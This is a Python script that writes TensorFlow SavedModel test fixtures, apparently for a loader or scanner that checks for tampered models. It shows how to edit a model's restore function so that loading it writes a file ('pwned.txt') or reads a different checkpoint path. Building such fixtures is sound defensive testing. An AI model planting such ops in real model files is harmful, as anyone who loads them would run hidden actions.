"""Write the TF2 SavedModel fixtures (eager TensorFlow, which make_ckpt.py turns off):

  fixtures/tf2_saved_model      tf.saved_model.save of a tf.Module on tiny's 4 features: one
                                dense layer of 3, signature serving_default (x -> logits); its
                                saver lives in functions (__inference__traced_restore_…)
  fixtures/hostile/tf2_write    the same, its restore function also writing pwned.txt
  fixtures/hostile/tf2_path     the same, its restore function reading a checkpoint path of its
                                own ("elsewhere/variables") instead of the one it is given

    .venv/bin/python python/make_tf2.py [--out fixtures]
"""
import argparse
import os
import shutil

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")
import tensorflow as tf  # noqa: E402
from tensorflow.core.framework import node_def_pb2  # noqa: E402
from tensorflow.core.protobuf import saved_model_pb2  # noqa: E402


class Dense(tf.Module):
    def __init__(self):
        super().__init__()
        self.w = tf.Variable(tf.random.stateless_normal([4, 3], seed=[1, 2]), name="w")
        self.b = tf.Variable(tf.constant([0.1, -0.2, 0.3]), name="b")

    @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
    def __call__(self, x):
        return {"logits": tf.matmul(x, self.w) + self.b}


def const_string(name, value):
    n = node_def_pb2.NodeDef(name=name, op="Const")
    n.attr["dtype"].type = tf.string.as_datatype_enum
    n.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(value, dtype=tf.string))
    return n


def restore_function(sm):
    mg = sm.meta_graphs[0]
    name = next(n for n in mg.graph_def.node if n.name == mg.saver_def.restore_op_name).attr["f"].func.name
    return next(f for f in mg.graph_def.library.function if f.signature.name == name)


def add_write(f):
    """A WriteFile in the restore function, run before it returns."""
    f.node_def.extend([const_string("evil/filename", "pwned.txt"), const_string("evil/contents", "pwned")])
    w = node_def_pb2.NodeDef(name="evil/write", op="WriteFile", input=["evil/filename:output:0", "evil/contents:output:0"])
    f.node_def.append(w)
    f.control_ret["evil_write"] = "evil/write"
    f.signature.control_output.append("evil_write")


def other_path(f):
    """RestoreV2 reads a path of the function's own, not its file_prefix argument."""
    f.node_def.append(const_string("evil/prefix", "elsewhere/variables"))
    restore = next(n for n in f.node_def if n.op == "RestoreV2")
    restore.input[0] = "evil/prefix:output:0"


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", default="fixtures")
    a = ap.parse_args()
    m = Dense()
    genuine = os.path.join(a.out, "tf2_saved_model")
    shutil.rmtree(genuine, ignore_errors=True)
    tf.saved_model.save(m, genuine, signatures=m.__call__)
    for variant, change in [("tf2_write", add_write), ("tf2_path", other_path)]:
        out = os.path.join(a.out, "hostile", variant)
        shutil.rmtree(out, ignore_errors=True)
        shutil.copytree(genuine, out)
        sm = saved_model_pb2.SavedModel()
        with open(os.path.join(out, "saved_model.pb"), "rb") as fh:
            sm.ParseFromString(fh.read())
        change(restore_function(sm))
        with open(os.path.join(out, "saved_model.pb"), "wb") as fh:
            fh.write(sm.SerializeToString())


if __name__ == "__main__":
    main()
